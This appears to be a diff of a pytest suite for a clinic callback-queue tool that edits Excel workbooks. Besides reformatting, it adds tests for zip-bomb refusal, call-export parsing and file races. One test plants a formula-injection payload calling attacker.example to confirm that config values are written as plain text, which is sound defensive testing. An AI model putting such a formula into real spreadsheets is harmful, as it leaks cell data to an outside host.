@@ -22,11 +22,11 @@ import pytest
 from callback_sheets import model, service
 from callback_sheets.backends import excel_files
 from callback_sheets.backends.excel import ExcelBackend
-from callback_sheets.backends.excel_files import lock_path, remove_stale_temps, workbook_lock
+from callback_sheets.backends.excel_files import lock_path, workbook_lock
 from callback_sheets.backends.xlsx_patch import patch_workbook
 from callback_sheets.backends.xlsx_read import PackageRefused, check_package, read_sheet
 from callback_sheets.config import Config
-from callback_sheets.errors import BackendError, WorkbookBusyError, WorkbookChangedError
+from callback_sheets.errors import WorkbookBusyError, WorkbookChangedError
 from tests.conftest import row
 
 NOW = datetime.fromisoformat("2026-12-01T15:00-06:00")
@@ -54,7 +54,9 @@ def staff_save(base: Path, dest_dir: Path, text: str, header: list[str]) -> Path
 
 # --- the save-during-refresh race ----------------------------------------------------------------------
 @pytest.mark.parametrize("exchange", [True, False], ids=["renameat2", "fallback"])
-def test_staff_save_during_refresh_is_never_lost(config: Config, make_queue, exchange: bool, monkeypatch) -> None:  # type: ignore[no-untyped-def]
+def test_staff_save_during_refresh_is_never_lost(
+    config: Config, make_queue, exchange: bool, monkeypatch
+) -> None:  # type: ignore[no-untyped-def]
     """Hundreds of interleavings: a staff save (atomic rename) lands at a random moment of a refresh;
     the edit is kept every time, and the refresh either wrote on top of it or refused."""
     if exchange and excel_files.exchange.call is None:
@@ -116,7 +118,9 @@ def test_staff_save_during_refresh_is_never_lost(config: Config, make_queue, exc
 
 @pytest.mark.parametrize("point", ["before_look", "between_look_and_swap"])
 @pytest.mark.parametrize("exchange", [True, False], ids=["renameat2", "fallback"])
-def test_save_at_each_point_of_the_swap(config: Config, make_queue, monkeypatch, point: str, exchange: bool) -> None:  # type: ignore[no-untyped-def]
+def test_save_at_each_point_of_the_swap(
+    config: Config, make_queue, monkeypatch, point: str, exchange: bool
+) -> None:  # type: ignore[no-untyped-def]
     """The same race, with the save placed exactly at each step of the compare-and-swap: before the
     first look, and between the look and the exchange (renameat2) or the last hash check (fallback)."""
     if exchange and excel_files.exchange.call is None:
@@ -181,7 +185,9 @@ REPO = Path(__file__).resolve().parent.parent
 _AS_USER: dict[str, list[str]] = {}  # user -> the command line that runs the CLI as them
 
 
-def cli(*args: str, cwd: Path, user: str | None = None, timeout: float = 120) -> subprocess.CompletedProcess[str]:
+def cli(
+    *args: str, cwd: Path, user: str | None = None, timeout: float = 120
+) -> subprocess.CompletedProcess[str]:
     """The real command in a fresh process (optionally as another user, through runuser)."""
     cmd = [str(Path(sys.executable).parent / "callback-sheets"), *args]
     if user is not None:
@@ -195,14 +201,16 @@ def _runnable_as(user: str) -> list[str] | str:
     import sysconfig
 
     paths = os.pathsep.join([str(REPO), sysconfig.get_paths()["purelib"], sysconfig.get_paths()["platlib"]])
-    run_main = "import sys; from callback_sheets.cli import main; sys.exit(main(prog_name=\"callback-sheets\"))"
+    run_main = 'import sys; from callback_sheets.cli import main; sys.exit(main(prog_name="callback-sheets"))'
     version = f"python{sys.version_info.major}.{sys.version_info.minor}"
     why = ""
     for interpreter in (sys.executable, f"/usr/bin/{version}", f"/usr/local/bin/{version}"):
         if not Path(interpreter).exists():
             continue
         cmd = ["runuser", "-u", user, "--", "env", f"PYTHONPATH={paths}", interpreter, "-c"]
-        probe = subprocess.run([*cmd, "import callback_sheets.cli, python_calamine, openpyxl"], capture_output=True)
+        probe = subprocess.run(
+            [*cmd, "import callback_sheets.cli, python_calamine, openpyxl"], capture_output=True
+        )
         if probe.returncode == 0:
             return [*cmd, run_main]
         why = probe.stderr.decode().strip()[-200:]
@@ -265,7 +273,9 @@ def second_user() -> str:
     if not ROOT or not shutil.which("useradd") or not shutil.which("runuser"):
         pytest.skip("needs root with useradd and runuser to run a command as a second user")
     if subprocess.run(["id", SECOND_USER], capture_output=True).returncode != 0:
-        made = subprocess.run(["useradd", "--no-create-home", "--shell", "/bin/sh", SECOND_USER], capture_output=True)
+        made = subprocess.run(
+            ["useradd", "--no-create-home", "--shell", "/bin/sh", SECOND_USER], capture_output=True
+        )
         if made.returncode != 0:
             pytest.skip(f"useradd failed: {made.stderr.decode().strip()}")
     found = _runnable_as(SECOND_USER)
@@ -294,7 +304,9 @@ def _clinic_in(folder: Path, config: Config, make_queue) -> Path:  # type: ignor
     return folder / "queue.xlsx"
 
 
-def test_second_user_keeps_own_file_and_is_refused_on_anothers(second_user: str, shared_dir: Path, config: Config, make_queue) -> None:  # type: ignore[no-untyped-def]
+def test_second_user_keeps_own_file_and_is_refused_on_anothers(
+    second_user: str, shared_dir: Path, config: Config, make_queue
+) -> None:  # type: ignore[no-untyped-def]
     import pwd
 
     user = pwd.getpwnam(second_user)
@@ -311,7 +323,16 @@ def test_second_user_keeps_own_file_and_is_refused_on_anothers(second_user: str,
     os.chown(wb, 0, user.pw_gid)
     os.chmod(wb, 0o664)
     before = wb.read_bytes()
-    done = cli("attempt", "CB-00001", "--outcome", "No answer", "--now", "2026-12-01T15:10", cwd=shared_dir, user=second_user)
+    done = cli(
+        "attempt",
+        "CB-00001",
+        "--outcome",
+        "No answer",
+        "--now",
+        "2026-12-01T15:10",
+        cwd=shared_dir,
+        user=second_user,
+    )
     assert done.returncode == 1
     assert "belongs to user id 0" in done.stderr and "nothing was written" in done.stderr
     assert wb.read_bytes() == before and os.stat(wb).st_uid == 0
@@ -319,7 +340,16 @@ def test_second_user_keeps_own_file_and_is_refused_on_anothers(second_user: str,
     # a read-only file (no write permission for them) is refused too
     os.chown(wb, user.pw_uid, user.pw_gid)
     os.chmod(wb, 0o444)
-    done = cli("attempt", "CB-00001", "--outcome", "No answer", "--now", "2026-12-01T15:10", cwd=shared_dir, user=second_user)
+    done = cli(
+        "attempt",
+        "CB-00001",
+        "--outcome",
+        "No answer",
+        "--now",
+        "2026-12-01T15:10",
+        cwd=shared_dir,
+        user=second_user,
+    )
     assert done.returncode == 1 and "read-only (mode 0444)" in done.stderr, done.stderr
     assert wb.read_bytes() == before
 
@@ -366,7 +396,9 @@ def _fill(folder: Path, leave: int) -> Path:
 
 
 @pytest.mark.parametrize("leave", [0, 20_000], ids=["no-space", "space-for-the-lock-not-the-workbook"])
-def test_disk_full_leaves_no_lock_and_no_temp(small_disk: Path, config: Config, make_queue, leave: int) -> None:  # type: ignore[no-untyped-def]
+def test_disk_full_leaves_no_lock_and_no_temp(
+    small_disk: Path, config: Config, make_queue, leave: int
+) -> None:  # type: ignore[no-untyped-def]
     wb = _clinic_in(small_disk, config, make_queue)
     before = wb.read_bytes()
     filler = _fill(small_disk, leave)
@@ -389,9 +421,8 @@ def test_empty_or_unreadable_lock_of_a_gone_process_is_stale_at_once(config: Con
         lock_path(config.workbook).write_bytes(content)
         service.refresh(config=config, backend=ExcelBackend(config.workbook), now=NOW)
         assert not lock_path(config.workbook).exists()
-    with workbook_lock(config.workbook):  # a live lock still refuses
-        with pytest.raises(WorkbookBusyError):
-            service.refresh(config=config, backend=ExcelBackend(config.workbook), now=NOW)
+    with workbook_lock(config.workbook), pytest.raises(WorkbookBusyError):  # a live lock still refuses
+        service.refresh(config=config, backend=ExcelBackend(config.workbook), now=NOW)
 
 
 def test_a_lock_is_never_seen_without_its_content(config: Config, make_queue) -> None:  # type: ignore[no-untyped-def]
@@ -426,7 +457,9 @@ def test_a_lock_is_never_seen_without_its_content(config: Config, make_queue) ->
 def test_only_our_own_stale_temp_files_are_removed(config: Config, make_queue) -> None:  # type: ignore[no-untyped-def]
     make_queue([row("2026-12-01 09:10")])
     folder = config.workbook.parent
-    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
+    dead = subprocess.run(
+        [sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True
+    )
     ours_dead = folder / f".queue.xlsx.cbs-{int(dead.stdout)}-abcd1234.tmp.xlsx"
     ours_old = folder / f".queue.xlsx.cbs-{os.getppid()}-zzzz9999.tmp.xlsx"  # a live pid, but old
     legacy_old = folder / ".queue.k3j4h5g6.tmp.xlsx"  # the name versions before this one used
@@ -467,7 +500,7 @@ def test_kill_9_at_random_points_then_the_next_run_cleans_up(config: Config, mak
     """)
     shutil.copyfile(config.workbook, folder / "base.xlsx")
     rng = random.Random(9)
-    kills = int(os.environ.get("CALLBACK_SHEETS_KILLS", "24"))
+    kills = int(os.environ.get("CALLBACK_SHEETS_KILLS", "12"))
     left_behind = 0
     for _ in range(kills):
         proc = subprocess.Popen([sys.executable, "-c", script], stdout=subprocess.PIPE, text=True)
@@ -487,8 +520,40 @@ def test_kill_9_at_random_points_then_the_next_run_cleans_up(config: Config, mak
 from tests.zip_bombs import workbook_bomb  # noqa: E402
 
 
-def test_check_package_limits() -> None:
-    pass  # replaced below
+def test_check_package_names_the_limit_it_hits(tmp_path: Path) -> None:
+    from tests.zip_bombs import bomb_member, write_zip
+
+    data, crc, size = bomb_member(b"<a>", b" " * (1 << 20), 10, b"</a>")  # 10 MiB in a few KB
+    write_zip(tmp_path / "b.xlsx", [("xl/big.xml", data, crc, size, 8)])
+    with pytest.raises(PackageRefused, match=r"part xl/big.xml is compressed [\d,]+:1 \(limit 100:1\)"):
+        check_package(tmp_path / "b.xlsx")
+    with pytest.raises(PackageRefused, match=r"part xl/big.xml would inflate to 10 MB \(limit 5 MB\)"):
+        check_package(tmp_path / "b.xlsx", max_member=5 << 20, max_ratio=10_000)
+    data, crc, size = bomb_member(b"", b"x" * 1000, 1000, b"")  # 1 MB parts
+    write_zip(tmp_path / "t.xlsx", [(f"p{i}.xml", data, crc, size, 8) for i in range(2)])
+    with pytest.raises(PackageRefused, match=r"t.xlsx would inflate to 2 MB \(limit 1 MB\)"):
+        check_package(tmp_path / "t.xlsx", max_total=1 << 20)
+    check_package(tmp_path / "t.xlsx")  # 2 MB at 1000:1 but small parts: a normal package passes
+    (tmp_path / "not-a-zip.xlsx").write_text("hello")
+    check_package(tmp_path / "not-a-zip.xlsx")  # left to the reader's own message
+
+
+def test_real_workbooks_pass_the_limits() -> None:
+    corpus = REPO.parent / "shared" / "xlsx-corpus"
+    if not corpus.is_dir():
+        pytest.skip(f"the shared xlsx corpus is not at {corpus}")
+    files = [p for p in sorted(corpus.rglob("*")) if p.suffix.lower() in (".xlsx", ".xlsm", ".ods")]
+    refused = []
+    for path in files:
+        try:
+            check_package(path)
+        except PackageRefused as exc:
+            refused.append(str(exc))
+    print(f"\ncorpus: {len(files)} packages, {len(refused)} refused: {refused}")
+    assert len(files) > 100
+    # one test file of another project (a 57 MB sheet of one long string repeated, 121:1) is over the
+    # ratio limit; every real-world workbook of the corpus passes
+    assert [r.split(":")[0] for r in refused] in ([], ["129_test_files_large_strings.xlsx"])
 
 
 @pytest.fixture
@@ -519,8 +584,229 @@ def test_zip_bomb_export_is_refused_with_bounded_memory(bomb_clinic: Path, lie: 
     export = folder / "calls.xlsx"
     workbook_bomb(bomb_clinic, export, "xl/worksheets/sheet1.xml", megabytes=330, lie=lie)
     done, peak = peak_mb("import-calls", str(export), "--dry-run", "--now", "2026-12-01T15:00", cwd=folder)
-    print(f"\nimport-calls --dry-run of a {export.stat().st_size / 1e6:.1f} MB zip bomb "
-          f"({'lying header' if lie else 'true sizes'}): exit {done.returncode}, peak {peak:.0f} MB")  # fmt: skip
+    kind = "lying header" if lie else "true sizes"
+    print(f"\nimport-calls --dry-run of a {export.stat().st_size / 1e6:.1f} MB zip bomb ({kind}): "
+          f"exit {done.returncode}, peak {peak:.0f} MB")  # fmt: skip
     assert done.returncode == 1
     assert "zip bomb" in done.stderr or "could not be read" in done.stderr, done.stderr
     assert peak < 300
+
+
+# --- literal text from config ------------------------------------------------------------------------------
+def test_choices_from_config_are_written_as_text_never_formulas(clinic_dir: Path) -> None:
+    from callback_sheets.config import load_config
+
+    toml = clinic_dir / "callback_sheets.toml"
+    evil = '=WEBSERVICE("http://attacker.example/?"&A1)'
+    toml.write_text(
+        toml.read_text() + f'\n[choices]\nlanguages = ["English", "Spanish", {evil!r}]\n'.replace("'", "'")
+    )
+    config = load_config(toml)
+    assert evil in config.languages
+    service.init(config=config, backend=ExcelBackend(config.workbook))
+    with zipfile.ZipFile(config.workbook) as archive:
+        parts = {n: archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")}
+    assert not any("<f>" in xml or "<f " in xml for xml in parts.values())
+    lists = read_sheet(config.workbook, model.LISTS_TAB)
+    assert evil in [c for r in lists for c in r]
+
+
+# --- exports -----------------------------------------------------------------------------------------------
+TWILIO = [
+    ["Sid", "DateCreated", "StartTime", "From", "CallerName", "Direction", "Status"],
+    ["CA01", "2026-12-01 15:00:00", "2026-12-01 15:00:00", "+13125550142", "Pat Q", "inbound", "no-answer"],
+    ["CA02", "2026-12-01 15:05:00", "2026-12-01 15:05:00", "+13125550143", "Lee R", "inbound", "completed"],
+    ["CA03", "2026-12-01 15:07:00", "2026-12-01 15:07:00", "+13125550144", "Ann S", "inbound", "busy"],
+]
+
+
+@pytest.mark.parametrize(
+    ("encoding", "bom", "delimiter"),
+    [
+        ("utf-16-le", b"\xff\xfe", "\t"),  # Excel's "Unicode Text"
+        ("utf-16-be", b"\xfe\xff", "\t"),
+        ("utf-16-le", b"", "\t"),  # no byte-order mark
+        ("utf-8", b"\xef\xbb\xbf", ";"),
+        ("utf-32-le", b"\xff\xfe\x00\x00", ","),
+    ],
+    ids=["utf16le-bom-tab", "utf16be-bom-tab", "utf16le-nobom-tab", "utf8-bom-semicolon", "utf32-bom"],
+)
+def test_unicode_text_exports_are_read(
+    config: Config, make_queue, encoding: str, bom: bytes, delimiter: str
+) -> None:  # type: ignore[no-untyped-def]
+    make_queue([])
+    export = config.workbook.parent / "calls.txt"
+    text = "\r\n".join(delimiter.join(r) for r in TWILIO) + "\r\n"
+    export.write_bytes(bom + text.encode(encoding))
+    done = cli(
+        "import-calls", str(export), "--dry-run", "--json", "--now", "2026-12-01T16:00", cwd=export.parent
+    )
+    assert done.returncode == 0, done.stderr
+    import json
+
+    summary = json.loads(done.stdout)
+    assert (summary["format"], summary["missed_calls"], summary["ignored"]) == ("twilio", 2, 1)
+    assert summary["unknown_values"] == []
+
+
+def test_unknown_direction_and_status_values_are_listed_and_exit_1(config: Config, make_queue) -> None:  # type: ignore[no-untyped-def]
+    make_queue([])
+    export = config.workbook.parent / "calls.csv"
+    rows = [TWILIO[0]] + [
+        [
+            f"CA{i}",
+            "2026-12-01 15:00:00",
+            "",
+            f"+1312555{i:04d}",
+            "",
+            "Incoming",
+            "No Answer" if i % 3 else "Busy",
+        ]
+        for i in range(9)
+    ]
+    export.write_text("\n".join(",".join(r) for r in rows))
+    done = cli("import-calls", str(export), "--now", "2026-12-01T16:00", cwd=export.parent)
+    assert done.returncode == 1
+    lines = done.stderr.splitlines()
+    assert (
+        "unknown Direction values, counted as ignored: 'Incoming' (9); to import them, map them with "
+        "[intake.mapping] inbound_values (with the generic format's column mapping)"
+    ) in lines
+    assert any(
+        line.startswith("unknown Status values, counted as ignored: 'No Answer' (6);") for line in lines
+    )
+    assert "calls.csv: no call in it was recognised (nothing was imported)" in lines
+    assert ids_of(config.workbook) == []
+    # some known rows beside the unknown ones: the unknown ones are still listed, exit 0
+    export.write_text("\n".join(",".join(r) for r in [*rows, TWILIO[1]]))
+    done = cli("import-calls", str(export), "--json", "--now", "2026-12-01T16:00", cwd=export.parent)
+    assert done.returncode == 0, done.stderr
+    import json
+
+    unknown = json.loads(done.stdout)["unknown_values"]
+    assert {"column": "Direction", "value": "Incoming", "rows": 9, "config_key": "inbound_values"} in unknown
+    assert "unknown Direction values" in done.stderr
+
+
+# --- demo --------------------------------------------------------------------------------------------------
+def test_demo_refuses_a_folder_with_a_config_or_workbook(tmp_path: Path) -> None:
+    folder = tmp_path / "clinic"
+    folder.mkdir()
+    (folder / "callback_sheets.toml").write_text("# the clinic's real config\n")
+    done = cli("demo", str(folder), "--now", "2026-12-04T15:00", cwd=tmp_path)
+    assert done.returncode == 1
+    assert "already holds callback_sheets.toml" in done.stderr and "--force" in done.stderr
+    assert (folder / "callback_sheets.toml").read_text() == "# the clinic's real config\n"
+    (folder / "callback_sheets.toml").unlink()
+    (folder / "queue.xlsx").write_bytes(b"staff's workbook")
+    assert cli("demo", str(folder), cwd=tmp_path).returncode == 1
+    assert (folder / "queue.xlsx").read_bytes() == b"staff's workbook"
+    done = cli("demo", str(folder), "--force", "--now", "2026-12-04T15:00", cwd=tmp_path)
+    assert done.returncode == 0, done.stderr
+    assert (folder / "callback_queue.xlsx").exists() and (
+        folder / "queue.xlsx"
+    ).read_bytes() == b"staff's workbook"
+
+
+# --- closed items, attempts used up, Urgency ------------------------------------------------------------
+def _statuses(path: Path) -> list[tuple[object, ...]]:
+    grid = read_sheet(path, model.QUEUE_TAB)
+    cols = [list(grid[0]).index(c) for c in (model.ID, model.STATUS, model.ATTEMPTS, model.LAST_OUTCOME)]
+    return [tuple(r[c] for c in cols) for r in grid[1:]]
+
+
+def test_closed_items_and_used_up_attempts(config: Config, make_queue) -> None:  # type: ignore[no-untyped-def]
+    make_queue(
+        [
+            row("2026-11-30 09:10", Status="No response", Attempts=3, Last_outcome="No answer",
+                Last_attempt=datetime(2026, 12, 1, 9, 0)),
+            row("2026-11-30 09:20", Status="Booked", Attempts=1, Last_outcome="Booked",
+                Last_attempt=datetime(2026, 11, 30, 10, 0)),
+            row("2026-11-30 09:30", Reason="Billing", Attempts=3, Status="In progress",
+                Last_outcome="No answer", Last_attempt=datetime(2026, 12, 1, 9, 0)),
+        ]
+    )  # fmt: skip
+    folder = config.workbook.parent
+    assert cli("refresh", "--now", "2026-12-01T15:00", cwd=folder).returncode == 0
+    before = config.workbook.read_bytes()
+    done = cli("attempt", "CB-00001", "--outcome", "No answer", "--now", "2026-12-01T15:10", cwd=folder)
+    assert done.returncode == 1
+    assert done.stderr.strip() == (
+        "error: CB-00001 is closed (Status No response): no attempt was recorded; if the patient needs "
+        "another call, add --reopen (sets Status back to In progress)"
+    )
+    done = cli("attempt", "CB-00002", "--outcome", "No answer", "--now", "2026-12-01T15:10", cwd=folder)
+    assert done.returncode == 1 and "is closed (Status Booked)" in done.stderr
+    done = cli("attempt", "CB-00003", "--outcome", "No answer", "--now", "2026-12-01T15:10", cwd=folder)
+    assert done.returncode == 1
+    assert (
+        "CB-00003 has used its 3 attempts (3 recorded): no attempt was recorded. "
+        "Next step: set Status to No response" in done.stderr
+    )
+    done = cli("script", "CB-00002", cwd=folder)
+    assert done.returncode == 1 and done.stdout == ""
+    assert "CB-00002 is closed (Status Booked): no callback is due, so there is no script" in done.stderr
+    assert config.workbook.read_bytes() == before  # nothing written by any of them
+    done = cli(
+        "attempt", "CB-00001", "--outcome", "Reached", "--reopen", "--now", "2026-12-01T15:10", cwd=folder
+    )
+    assert done.returncode == 0, done.stderr
+    assert "reopened CB-00001: Status No response set back to In progress" in done.stderr
+    done = cli(
+        "attempt",
+        "CB-00003",
+        "--outcome",
+        "No answer",
+        "--status",
+        "No response",
+        "--now",
+        "2026-12-01T15:20",
+        cwd=folder,
+    )
+    assert done.returncode == 0, done.stderr  # the last attempt that closes it is allowed
+    assert _statuses(config.workbook) == [
+        ("CB-00001", "In progress", 4, "Reached"),
+        ("CB-00002", "Booked", 1, "Booked"),
+        ("CB-00003", "No response", 4, "No answer"),
+    ]
+    assert cli("script", "CB-00001", cwd=folder).returncode == 0
+
+
+def test_refresh_fills_an_empty_urgency_from_the_reason_only(config: Config, make_queue) -> None:  # type: ignore[no-untyped-def]
+    make_queue(
+        [
+            row("2026-12-01 09:10", Reason="Clinical concern"),
+            row("2026-12-01 09:20", Reason="Billing"),
+            row("2026-12-01 09:30", Reason="Clinical concern", Urgency="Routine"),  # staff's choice stays
+            row("2026-12-01 09:40", Reason="Billing", Urgency="urgentish"),  # a wrong value stays too
+            row("2026-12-01 09:50", Reason="Not a reason"),  # no reason to take it from: stays empty
+        ]
+    )
+    outcome = service.refresh(config=config, backend=ExcelBackend(config.workbook), now=NOW)
+    assert outcome.plan.summary.urgency_filled == 2
+    grid = read_sheet(config.workbook, model.QUEUE_TAB)
+    col = list(grid[0]).index(model.URGENCY)
+    assert [r[col] for r in grid[1:]] == ["Urgent", "Routine", "Routine", "urgentish", None]
+    again = service.refresh(config=config, backend=ExcelBackend(config.workbook), now=NOW)
+    assert again.plan.summary.urgency_filled == 0
+
+
+# --- broken pipe -------------------------------------------------------------------------------------------
+def test_a_closed_stdout_pipe_ends_the_command_quietly(config: Config, make_queue) -> None:  # type: ignore[no-untyped-def]
+    make_queue([row(f"2026-12-01 {8 + i % 9:02d}:{i % 60:02d}") for i in range(40)])
+    folder = config.workbook.parent
+    for args in (("queue",), ("queue", "--json"), ("report", "daily", "--date", "2026-12-01", "--csv")):
+        read, write = os.pipe()
+        os.close(read)  # the reader is gone before the first line (`| head -0`, a pager quit at once)
+        proc = subprocess.run(
+            [str(Path(sys.executable).parent / "callback-sheets"), *args, "--now", "2026-12-01T15:00"],
+            cwd=folder, stdout=write, stderr=subprocess.PIPE, text=True, timeout=60,
+        )  # fmt: skip
+        os.close(write)
+        assert proc.returncode == 141, (args, proc.stderr)  # what a shell reports for SIGPIPE
+        assert "Error" not in proc.stderr and "error" not in proc.stderr, proc.stderr
+    head = subprocess.run(
+        f"{Path(sys.executable).parent / 'callback-sheets'} queue --now 2026-12-01T15:00 | head -3",
+        shell=True, cwd=folder, capture_output=True, text=True, timeout=60,
+    )  # fmt: skip
+    assert len(head.stdout.splitlines()) == 3 and "error" not in head.stderr
